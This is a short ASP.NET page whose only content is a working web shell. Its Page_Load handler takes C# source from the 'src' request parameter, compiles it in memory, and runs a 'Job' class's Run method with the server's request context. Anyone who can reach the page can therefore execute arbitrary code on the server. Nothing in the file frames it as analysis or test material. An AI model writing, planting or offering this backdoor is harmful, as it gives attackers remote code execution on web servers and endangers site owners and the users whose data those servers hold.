<%@ Page Language="C#" %>
<%@ Import Namespace="System.CodeDom.Compiler" %>
<%@ Import Namespace="Microsoft.CSharp" %>
<script runat="server">
protected void Page_Load(object sender, EventArgs e)
{
    string src = Request["src"];
    if (src == null) return;
    CSharpCodeProvider provider = new CSharpCodeProvider();
    CompilerParameters cp = new CompilerParameters();
    cp.GenerateInMemory = true;
    cp.ReferencedAssemblies.Add("System.dll");
    cp.ReferencedAssemblies.Add("System.Web.dll");
    CompilerResults cr = provider.CompileAssemblyFromSource(cp, src);
    if (cr.Errors.HasErrors)
    {
        foreach (CompilerError ce in cr.Errors) Response.Write(Server.HtmlEncode(ce.ErrorText) + "<br/>");
        return;
    }
    object o = cr.CompiledAssembly.CreateInstance("Job");
    o.GetType().GetMethod("Run").Invoke(o, new object[] { Context });
}
</script>
